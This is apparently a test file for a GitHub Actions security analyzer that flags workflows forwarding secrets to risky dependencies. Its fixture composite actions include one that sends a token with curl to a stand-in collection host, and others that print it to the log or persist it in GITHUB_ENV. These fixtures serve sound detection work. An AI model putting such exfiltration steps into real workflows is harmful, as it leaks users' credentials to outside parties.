/**
 * secrets-forwarded: a secret handed to a fetched dependency (served by the fake GitHub on loopback) that
 * passes it on somewhere risky is reported on the caller's line holding the secret, naming every hop.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { mentionsVariable } from '../../../server/src/dependencies/secrets';
import { walkDependencies, type DependencyGraph } from '../../../server/src/dependencies/walk';
import { analyze, DEFAULT_ANALYSIS_OPTIONS } from '../../../server/src/engine';
import type { Finding } from '../../../server/src/findings';
import { parseFile } from '../../../server/src/parse/document';
import { RepoData } from '../../../server/src/resolve/repo-data';
import { GitHubResolver } from '../../../server/src/resolve/resolver';
import { available } from '../../../server/src/views';
import { FakeGitHub, sha } from '../../support/fake-github';

const composite = (steps: string) =>
  `name: t\ndescription: t\ninputs:\n  token:\n    description: a token\nruns:\n  using: composite\n  steps:\n${steps}`;

/** Composite actions, one behaviour each; `token` is the input the caller fills with a secret. */
const ACTIONS: Record<string, string> = {
  // Hands the token only to an action pinned to a commit (a JavaScript action): nothing we can see.
  'pinned-only': composite(`    - uses: other/tool@${sha('ot-1')}\n      with:\n        token: \${{ inputs.token }}\n`),
  // Uses the token locally: logs gh in, calls GitHub's API, masks it.
  'local-use': composite(
    `    - run: |\n        echo "::add-mask::$TOKEN"\n        echo "$TOKEN" | gh auth login --with-token\n        curl -H "Authorization: Bearer $TOKEN" "$GITHUB_API_URL/repos/x/y"\n      shell: bash\n      env:\n        TOKEN: \${{ inputs.token }}\n`,
  ),
  // Hands the token to an action by a mutable tag.
  unpinned: composite(`    - uses: other/tool@v1\n      with:\n        token: \${{ inputs.token }}\n`),
  // Persists the token for every later step of the caller's job.
  'env-writer': composite(`    - run: echo "TOKEN=\${{ inputs.token }}" >> "$GITHUB_ENV"\n      shell: bash\n`),
  // Sends it to a host through an env variable.
  sender: composite(
    `    - run: curl -sS -d "t=$T" https://collect.example.net/x\n      shell: bash\n      env:\n        T: \${{ inputs.token }}\n`,
  ),
  // Prints it.
  echoer: composite(`    - run: echo "\${{ inputs.token }}"\n      shell: bash\n`),
  // Passes it on, pinned, to env-writer: two hops.
  outer: composite(`    - uses: acme/env-writer@${sha('env-writer-1')}\n      with:\n        token: \${{ inputs.token }}\n`),
};

const DEPLOY = `on:
  workflow_call:
    secrets:
      DEPLOY_KEY:
        required: true
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: other/tool@v1
        env:
          KEY: \${{ secrets.DEPLOY_KEY }}
`;
const SAFE = `on: workflow_call
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: other/tool@${sha('ot-1')}
        with:
          key: \${{ secrets.DEPLOY_KEY }}
`;
const PR = `on: workflow_call
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@${sha('co-1')}
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: make test
        env:
          TOKEN: \${{ secrets.TOKEN }}
`;

function fixture(): FakeGitHub {
  let gh = new FakeGitHub()
    .repo('other/tool', {
      history: ['ot-1'],
      branches: { main: 'ot-1' },
      tags: { v1: { commit: 'ot-1' } },
      files: { 'ot-1': { 'action.yml': 'runs:\n  using: node20\n  main: index.js\n' } },
    })
    .repo('actions/checkout', {
      history: ['co-1'],
      branches: { main: 'co-1' },
      files: { 'co-1': { 'action.yml': 'runs:\n  using: node20\n  main: index.js\n' } },
    })
    .repo('acme/flows', {
      history: ['fl-1'],
      branches: { main: 'fl-1' },
      files: { 'fl-1': { '.github/workflows/deploy.yml': DEPLOY, '.github/workflows/safe.yml': SAFE, '.github/workflows/pr.yml': PR } },
    });
  for (const [name, text] of Object.entries(ACTIONS)) {
    const label = `${name}-1`;
    gh = gh.repo(`acme/${name}`, { history: [label], branches: { main: label }, files: { [label]: { 'action.yml': text } } });
  }
  return gh;
}

const step = (action: string, value = '${{ secrets.NPM_TOKEN }}') => `on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: acme/${action}@${sha(`${action}-1`)}
        with:
          token: ${value}
`;

describe('secrets-forwarded', () => {
  let gh: FakeGitHub;
  let graph: DependencyGraph;
  const dirs: string[] = [];
  before(async () => {
    gh = await fixture().start();
    const dir = mkdtempSync(join(tmpdir(), 'warden-secrets-fwd-'));
    dirs.push(dir);
    const data = new RepoData(new GitHubResolver({ serverUrl: gh.serverUrl, apiUrl: gh.apiUrl, timeoutMs: 1500, cacheDir: dir }), {
      cacheDir: dir,
    });
    const uses = [
      ...Object.keys(ACTIONS).map((name) => `acme/${name}@${sha(`${name}-1`)}`),
      ...['deploy', 'safe', 'pr'].map((name) => `acme/flows/.github/workflows/${name}.yml@${sha('fl-1')}`),
    ];
    graph = await walkDependencies(data, uses);
  });
  after(async () => {
    await gh.stop();
    for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
  });

  const findings = (text: string, persona: 'auditor' | 'regular' = 'auditor', online = true): Finding[] =>
    analyze(parseFile('.github/workflows/w.yml', 'workflow', text), {
      ...DEFAULT_ANALYSIS_OPTIONS,
      persona,
      ...(online ? { views: { dependencies: available(graph) } } : {}),
    }).filter((f) => f.ruleId === 'secrets-forwarded');
  const textOf = (text: string, finding: Finding) => text.slice(finding.span.start, finding.span.end);

  test('a secret handed to an action pinned to a commit only: silent', () => {
    assert.deepEqual(findings(step('pinned-only')), []);
  });

  test('a secret used locally (gh auth login, GitHub API, add-mask): silent', () => {
    assert.deepEqual(findings(step('local-use')), []);
  });

  test('a secret handed to an unpinned step: on the with: value, naming the action, related location inside', () => {
    const text = step('unpinned');
    const [found, ...rest] = findings(text);
    assert.equal(rest.length, 0);
    assert.equal(textOf(text, found), '${{ secrets.NPM_TOKEN }}');
    assert.equal(found.range.start.line, 8);
    assert.match(found.message, /`secrets\.NPM_TOKEN` is passed as `token` to `acme\/unpinned@/);
    assert.match(found.message, /action\.yml:9 \(`inputs\.token`\) hands it to `other\/tool@v1`, which is not pinned to a commit/);
    assert.equal(found.severity, 'medium');
    assert.equal(found.persona, 'auditor');
    assert.equal(found.related.length, 1);
    assert.equal(found.related[0].uri, `${gh.serverUrl}/acme/unpinned/blob/${sha('unpinned-1')}/action.yml`);
    assert.equal(found.related[0].range.start.line, 8, 'the uses: line inside acme/unpinned');
  });

  test('github.token handed to a step writing it to GITHUB_ENV: reported', () => {
    const text = step('env-writer', '${{ github.token }}');
    const [found] = findings(text);
    assert.ok(found);
    assert.match(found.message, /`github\.token` is passed as `token`.*writes it to `\$GITHUB_ENV`/);
    assert.equal(found.related[0].range.start.line, 8);
  });

  test('through two levels: both hops named, a related location at each', () => {
    const text = step('outer');
    const [found] = findings(text);
    assert.ok(found);
    const outer = `acme/outer@${sha('outer-1').slice(0, 12)} action.yml:11 passes \`inputs.token\` on`;
    const inner = `acme/env-writer@${sha('env-writer-1').slice(0, 12)} action.yml:9 (\`inputs.token\`) writes it to \`$GITHUB_ENV\``;
    assert.ok(found.message.includes(`${outer} → ${inner}`), found.message);
    assert.deepEqual(
      found.related.map((r) => [r.uri?.includes('/acme/outer/'), r.uri?.includes('/acme/env-writer/'), r.range.start.line]),
      [
        [true, false, 10],
        [false, true, 8],
      ],
    );
  });

  test('sent to another host through an env variable: high; printed to the log: low', () => {
    const [sent] = findings(step('sender'));
    assert.ok(sent);
    assert.match(sent.message, /sends it with `curl` to `collect\.example\.net`/);
    assert.equal(sent.severity, 'high');
    const [printed] = findings(step('echoer'));
    assert.ok(printed);
    assert.match(printed.message, /prints it to the job log with `echo`/);
    assert.equal(printed.severity, 'low');
  });

  test('a constant, not a secret, is not reported; the regular persona does not see it; offline it never fires', () => {
    assert.deepEqual(findings(step('unpinned', 'hello')), []);
    assert.deepEqual(findings(step('unpinned'), 'regular'), []);
    assert.deepEqual(findings(step('unpinned'), 'auditor', false), []);
  });

  const call = (workflow: string, secrets: string, trigger = 'push') => `on: ${trigger}
permissions: {}
jobs:
  call:
    uses: acme/flows/.github/workflows/${workflow}.yml@${sha('fl-1')}
    secrets:${secrets}
`;

  test('a reusable workflow by ref: a named secret or inherit reaching an unpinned action is reported on the caller', () => {
    const named = call('deploy', '\n      DEPLOY_KEY: ${{ secrets.PROD_KEY }}');
    const [found] = findings(named);
    assert.ok(found);
    assert.equal(textOf(named, found), '${{ secrets.PROD_KEY }}');
    assert.match(
      found.message,
      /`secrets\.PROD_KEY` is passed as secret `DEPLOY_KEY`.*deploy\.yml:10 \(`secrets\.deploy_key`\) hands it to `other\/tool@v1`/,
    );
    const inherit = call('deploy', ' inherit');
    const [all] = findings(inherit);
    assert.ok(all);
    assert.equal(textOf(inherit, all), 'inherit');
    assert.match(all.message, /^every secret \(`secrets: inherit`\) is passed to .*\(`every secret`\) hands it to `other\/tool@v1`/);
    assert.deepEqual(findings(call('safe', '\n      DEPLOY_KEY: ${{ secrets.PROD_KEY }}')), []);
  });

  test('a reusable workflow running pull request code with the secret: reported only for a privileged caller', () => {
    const privileged = call('pr', '\n      TOKEN: ${{ secrets.TOKEN }}', 'pull_request_target');
    const [found] = findings(privileged);
    assert.ok(found);
    assert.match(found.message, /gives it to job `test`, which checks out the pull request's code/);
    assert.equal(found.severity, 'high');
    assert.deepEqual(findings(call('pr', '\n      TOKEN: ${{ secrets.TOKEN }}', 'push')), []);
  });
});

test('mentionsVariable: $V, ${V}, ${V:-x}, $env:V, %V% but not $VAR_LONGER', () => {
  for (const text of ['$T', '"${T}"', '${T:-x}', '$env:t', '%T%', 'a=$T;']) assert.ok(mentionsVariable(text, 'T'), text);
  for (const text of ['$TX', '${TX}', 'T', '$$', '${{ env.T }}']) assert.ok(!mentionsVariable(text, 'T'), text);
});
